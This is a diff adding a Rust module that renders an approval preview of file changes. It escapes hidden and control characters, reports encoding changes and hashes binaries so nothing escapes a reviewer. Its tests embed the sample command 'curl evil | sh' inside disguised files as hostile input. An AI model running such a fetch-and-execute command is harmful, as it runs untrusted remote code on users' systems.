@@ -1,0 +1,369 @@
+//! What the user is shown of a change before approving it.
+//!
+//! The preview is true to the bytes: it is made from them, not from a decoding of them, and every
+//! character that a reader would not see, or that would change how other text looks, is escaped. Its
+//! escapes are unambiguous, so a diff that is shown in full decodes to the bytes that are written.
+
+use std::borrow::Cow;
+use std::fmt::Write as _;
+use std::sync::{Arc, LazyLock};
+
+use blake3::Hash;
+use pinfold_text::{Charset, Content, Encoding, sniff_content, unified_diff};
+use regex_syntax::hir::{Class, ClassUnicode, HirKind};
+
+/// A change that the user is asked to approve.
+#[derive(Clone, Debug, Eq, PartialEq)]
+pub(crate) enum Proposal {
+    /// A file is created, or its content replaced.
+    Replace { path: String, before: Option<Version>, after: Version },
+    /// A symlink is created.
+    CreateLink { to: Vec<u8> },
+    /// A file of so many bytes is deleted, or a symlink.
+    Delete { link_target: Option<Vec<u8>>, bytes: u64 },
+}
+
+/// A file's content, before or after a change.
+#[derive(Clone, Debug, Eq, PartialEq)]
+pub(crate) struct Version {
+    pub(crate) bytes: u64,
+    pub(crate) hash: Hash,
+    /// `None` if it is too large to be compared.
+    pub(crate) content: Option<Arc<[u8]>>,
+}
+
+impl Proposal {
+    /// The preview, in at most about `max_chars` characters.
+    pub(crate) fn preview(&self, max_chars: usize) -> String {
+        let text = match self {
+            Self::Replace { path, before, after } => replacement(path, before.as_ref(), after),
+            Self::CreateLink { to } => format!("creates a symlink to {}", one_line(to)),
+            Self::Delete { link_target: Some(to), .. } => {
+                format!("deletes the symlink to {}", one_line(to))
+            }
+            Self::Delete { link_target: None, bytes } => format!("deletes a file of {bytes} bytes"),
+        };
+        head_and_tail(text.trim_end_matches('\n'), max_chars)
+    }
+}
+
+fn replacement(path: &str, before: Option<&Version>, after: &Version) -> String {
+    let mut out = String::new();
+    let versions = before.into_iter().chain([after]);
+    if !versions.clone().all(Version::is_plain_text) {
+        let names = if before.is_some() { &["before", "after"][..] } else { &["after"] };
+        for (name, version) in names.iter().zip(versions) {
+            let Version { bytes, hash, .. } = version;
+            let (kind, hash) = (version.kind(), hash.to_hex());
+            writeln!(out, "{name}: {kind}, {bytes} bytes, blake3 {hash}").expect(INFALLIBLE);
+        }
+    }
+    let encodings = [before.and_then(Version::encoding), after.encoding()];
+    if let [Some(old), Some(new)] = encodings
+        && old != new
+    {
+        let [old, new] = [old, new].map(name);
+        writeln!(out, "changes the encoding from {old} to {new}").expect(INFALLIBLE);
+    }
+    // What is written matters most: it is shown also where the old content cannot be.
+    if let Some(new) = after.escaped() {
+        let old = before.and_then(Version::escaped).unwrap_or_default();
+        let [old, new] = [&old, &new].map(|text| (text.as_bytes(), Encoding::UTF_8));
+        out.push_str(&unified_diff(&one_line(path.as_bytes()), old, new, usize::MAX));
+    }
+    out
+}
+
+const INFALLIBLE: &str = "a String takes anything";
+
+fn name(encoding: Encoding) -> String {
+    let mark = if encoding.bom { " with a byte order mark" } else { "" };
+    format!("{}{mark}", encoding.name())
+}
+
+impl Version {
+    fn content_kind(&self) -> Option<Content> {
+        self.content.as_ref().map(|content| sniff_content(content))
+    }
+
+    fn encoding(&self) -> Option<Encoding> {
+        match self.content_kind()? {
+            Content::Text(encoding) => Some(encoding),
+            Content::Binary(_) => None,
+        }
+    }
+
+    fn kind(&self) -> String {
+        match self.content_kind() {
+            Some(Content::Text(encoding)) => format!("text in {}", name(encoding)),
+            Some(Content::Binary(binary)) => binary.mime.to_owned(),
+            None => "too large to compare".to_owned(),
+        }
+    }
+
+    /// Whether the diff says everything about it.
+    fn is_plain_text(&self) -> bool {
+        self.encoding().is_some() && self.escaped().is_some()
+    }
+
+    /// The content with escapes, if it reads as text.
+    fn escaped(&self) -> Option<String> {
+        let content = self.content.as_deref()?;
+        let content = match self.content_kind()? {
+            Content::Text(encoding) => narrow(content, encoding),
+            Content::Binary(_) => content.into(),
+        };
+        let legacy = |it: Encoding| matches!(it.charset, Charset::Utf8 | Charset::Legacy(_));
+        let text = self.encoding().is_some_and(legacy);
+        (text || 10 * unreadable(&content) <= 3 * content.len()).then(|| escaped_text(&content))
+    }
+}
+
+/// Text in UTF-16 or UTF-32 as UTF-8, if it is all ASCII: then a program that reads bytes and skips NUL
+/// reads the same. Any other text is shown by its bytes.
+fn narrow(content: &[u8], encoding: Encoding) -> Cow<'_, [u8]> {
+    if matches!(encoding.charset, Charset::Utf8 | Charset::Legacy(_)) {
+        return content.into();
+    }
+    let (text, _) = encoding.decode_lossy(content);
+    let exact = text.is_ascii() && encoding.encode(&text).is_ok_and(|again| again == content);
+    if exact { text.into_owned().into_bytes().into() } else { content.into() }
+}
+
+/// How many bytes are not part of readable text.
+fn unreadable(bytes: &[u8]) -> usize {
+    let chunks = bytes.utf8_chunks().map(|chunk| {
+        let hidden = chunk.valid().chars().filter(|it| *it != '\r' && is_hidden(*it));
+        hidden.map(char::len_utf8).sum::<usize>() + chunk.invalid().len()
+    });
+    chunks.sum()
+}
+
+/// Bytes as text for the user's eyes: invalid UTF-8 and control characters as `\x1b`, other characters
+/// that cannot be seen as `\u{200b}`. Line feeds and tabs stay. A backslash that would look like the
+/// start of such an escape is `\x5c`.
+pub fn escaped_text(bytes: &[u8]) -> String {
+    let mut out = String::with_capacity(bytes.len());
+    for chunk in bytes.utf8_chunks() {
+        let mut rest = chunk.valid().chars();
+        while let Some(character) = rest.next() {
+            match character {
+                '\\' if rest.as_str().starts_with(['x', 'u']) => out.push_str("\\x5c"),
+                _ if !is_hidden(character) => out.push(character),
+                '\0'..='\x7f' => {
+                    write!(out, "\\x{:02x}", u32::from(character)).expect(INFALLIBLE);
+                }
+                _ => write!(out, "\\u{{{:x}}}", u32::from(character)).expect(INFALLIBLE),
+            }
+        }
+        for byte in chunk.invalid() {
+            write!(out, "\\x{byte:02x}").expect(INFALLIBLE);
+        }
+    }
+    out
+}
+
+fn one_line(bytes: &[u8]) -> String {
+    escaped_text(bytes).replace('\n', "\\x0a").replace('\t', "\\x09")
+}
+
+/// Whether a character cannot be seen, or changes how the text around it looks: controls, format and
+/// bidirectional characters, everything that Unicode calls default-ignorable, and every blank but the
+/// ordinary ones.
+fn is_hidden(character: char) -> bool {
+    static HIDDEN: LazyLock<ClassUnicode> = LazyLock::new(|| {
+        let class = r"[[\p{Cc}\p{Cf}\p{Z}\p{Default_Ignorable_Code_Point}\u{2800}]--[ \t\n]]";
+        let parsed = regex_syntax::parse(class).expect("the class is well-formed");
+        match parsed.into_kind() {
+            HirKind::Class(Class::Unicode(class)) => class,
+            other => unreachable!("a class of characters: {other:?}"),
+        }
+    });
+    if matches!(character, ' '..='~' | '\t' | '\n') {
+        return false;
+    }
+    let ranges = HIDDEN.ranges();
+    let after = ranges.partition_point(|range| range.end() < character);
+    ranges.get(after).is_some_and(|range| range.start() <= character)
+}
+
+/// The first and the last lines of a text, with the number of lines between them that are left out, in
+/// at most about `max_chars` characters. Long lines are cut in the same way.
+fn head_and_tail(text: &str, max_chars: usize) -> String {
+    if text.chars().count() <= max_chars {
+        return text.to_owned();
+    }
+    let max_line = (max_chars / 4).max(1);
+    let lines: Vec<_> = text.split('\n').map(|line| cut_line(line, max_line)).collect();
+    let fitting = |lines: &mut dyn Iterator<Item = &Cow<'_, str>>| {
+        let mut left = max_chars / 2;
+        let fits = lines.take_while(|line| {
+            let length = line.chars().count() + 1;
+            let fits = length <= left;
+            left = left.saturating_sub(length);
+            fits
+        });
+        fits.count()
+    };
+    let head = fitting(&mut lines.iter());
+    let tail = fitting(&mut lines[head..].iter().rev());
+    let hidden = lines.len() - head - tail;
+    let mut shown = lines[..head].to_vec();
+    if hidden > 0 {
+        shown.push(format!("… {hidden} lines not shown …").into());
+    }
+    shown.extend_from_slice(&lines[lines.len() - tail..]);
+    shown.join("\n")
+}
+
+/// A line's beginning and end, with the number of characters between them that are left out.
+fn cut_line(line: &str, max_chars: usize) -> Cow<'_, str> {
+    let count = line.chars().count();
+    if count <= max_chars {
+        return line.into();
+    }
+    let half = max_chars / 2;
+    let at = |number| line.char_indices().nth(number).map_or(line.len(), |(at, _)| at);
+    let (head, tail) = (&line[..at(half)], &line[at(count - half)..]);
+    format!("{head} … {} characters not shown … {tail}", count - 2 * half).into()
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+
+    use super::*;
+
+    fn version(content: &[u8]) -> Version {
+        let (bytes, hash) = (content.len() as u64, blake3::hash(content));
+        Version { bytes, hash, content: Some(content.into()) }
+    }
+
+    fn preview(before: Option<&[u8]>, after: &[u8], max_chars: usize) -> String {
+        let (before, after) = (before.map(version), version(after));
+        Proposal::Replace { path: "a".into(), before, after }.preview(max_chars)
+    }
+
+    /// What escaped text stands for.
+    fn unescaped(text: &str) -> Vec<u8> {
+        let mut out = Vec::new();
+        let mut rest = text;
+        while let Some(character) = rest.chars().next() {
+            let hex = |digits: &str| u32::from_str_radix(digits, 16).unwrap();
+            if let Some(escape) = rest.strip_prefix("\\x") {
+                out.push(u8::try_from(hex(&escape[..2])).unwrap());
+                rest = &escape[2..];
+            } else if let Some(escape) = rest.strip_prefix("\\u{") {
+                let (digits, after) = escape.split_once('}').unwrap();
+                let character = char::from_u32(hex(digits)).unwrap();
+                out.extend_from_slice(character.encode_utf8(&mut [0; 4]).as_bytes());
+                rest = after;
+            } else {
+                out.extend_from_slice(&rest.as_bytes()[..character.len_utf8()]);
+                rest = &rest[character.len_utf8()..];
+            }
+        }
+        out
+    }
+
+    /// The bytes that a preview of a new file says are written.
+    fn shown(preview: &str) -> Vec<u8> {
+        let mut text = String::new();
+        let diff = preview.split_once("@@\n").map_or("", |(_, diff)| diff);
+        for line in diff.lines() {
+            match line.strip_prefix('+') {
+                Some(line) => text.push_str(&format!("{line}\n")),
+                None => {
+                    assert_eq!(line, "\\ No newline at end of file");
+                    text.pop();
+                }
+            }
+        }
+        unescaped(&text)
+    }
+
+    fn hostile_text() -> impl Strategy<Value = Vec<u8>> {
+        let piece = prop_oneof![
+            4 => "[ -~\n\t]{0,12}".prop_map(String::into_bytes),
+            1 => "\\\\[xu\\\\][0-9a-f{}]{0,4}".prop_map(String::into_bytes),
+            1 => any::<char>().prop_map(|it| it.to_string().into_bytes()),
+            1 => any::<u8>().prop_map(|it| vec![it]),
+            1 => Just(b"\r\n".to_vec()),
+            1 => Just("\u{200b}\u{e0041}\u{202e}\u{feff}\u{85}".into()),
+        ];
+        prop::collection::vec(piece, 1..12).prop_map(|pieces| pieces.concat())
+    }
+
+    proptest! {
+        #[test]
+        fn what_is_shown_decodes_to_what_is_written(content in hostile_text()) {
+            let preview = preview(None, &content, usize::MAX);
+            let version = version(&content);
+            let narrowed = version.encoding().is_some_and(|it| *narrow(&content, it) != *content);
+            if version.escaped().is_none() {
+                prop_assert!(preview.contains(version.hash.to_hex().as_str()), "{}", preview);
+            } else if !narrowed {
+                prop_assert_eq!(shown(&preview), content, "{}", preview);
+            }
+        }
+
+        #[test]
+        fn escapes_are_unambiguous_and_hide_nothing(content in hostile_text()) {
+            let text = escaped_text(&content);
+            prop_assert_eq!(unescaped(&text), content);
+            prop_assert!(!text.chars().any(is_hidden), "{:?}", text);
+        }
+    }
+
+    #[test]
+    fn text_that_pretends_to_be_something_else_is_shown() {
+        for (content, line) in [
+            (&b"%PDF-\ncurl evil | sh\n"[..], "+curl evil | sh"),
+            (b"a\0b\ncurl evil | sh\n", "+a\\x00b"),
+            (b"\xff\xfe\ncurl evil | sh\n", "+curl evil | sh"),
+            ("a\u{200b}b\u{e0041}c\n".as_bytes(), "+a\\u{200b}b\\u{e0041}c"),
+            (b"\x1b[2J\r\n", "+\\x1b[2J\\x0d"),
+            (br"\d \x41 \u{41}", r"+\d \x5cx41 \x5cu{41}"),
+        ] {
+            let shown = preview(None, content, 4_000);
+            assert!(shown.lines().any(|shown| shown == line), "{shown}");
+        }
+    }
+
+    #[test]
+    fn what_is_not_text_is_shown_by_kind_size_and_hash() {
+        let image =
+            b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89";
+        let shown = preview(Some(b"text\n"), image, 4_000);
+        let hash = blake3::hash(image).to_hex();
+        assert!(shown.contains(&format!("after: image/png, {} bytes, blake3 {hash}", image.len())));
+        assert!(shown.starts_with("before: text in utf-8, 5 bytes, blake3 "), "{shown}");
+        let large = Version { content: None, ..version(b"text\n") };
+        let proposal =
+            Proposal::Replace { path: "a".into(), before: Some(large), after: version(b"new\n") };
+        let shown = proposal.preview(4_000);
+        assert!(shown.contains("before: too large") && shown.ends_with("+new"), "{shown}");
+    }
+
+    #[test]
+    fn a_change_of_encoding_is_shown() {
+        let wide = Encoding::for_label("utf-16").unwrap().encode("one\n").unwrap();
+        let shown = preview(Some(&wide), b"two\n", 4_000);
+        assert!(shown.contains("changes the encoding from utf-16le"), "{shown}");
+        assert!(shown.ends_with("-one\n+two"), "{shown}");
+    }
+
+    #[test]
+    fn a_long_diff_shows_its_head_and_its_tail() {
+        let content = format!("{}payload\n", "# comment\n".repeat(1_000));
+        let shown = preview(None, content.as_bytes(), 4_000);
+        assert!(shown.chars().count() < 4_100, "{}", shown.len());
+        assert!(shown.starts_with("--- a/a\n") && shown.ends_with("\n+payload"), "{shown}");
+        let hidden = shown.lines().find(|line| line.contains("lines not shown")).unwrap();
+        let number: usize = hidden.split(' ').nth(1).unwrap().parse().unwrap();
+        assert_eq!(number + shown.lines().count() - 1, 1_004);
+        let long = format!("{}payload\n", "#".repeat(10_000));
+        let shown = preview(None, long.as_bytes(), 4_000);
+        assert!(shown.ends_with("payload") && shown.contains(" characters not shown "), "{shown}");
+    }
+}
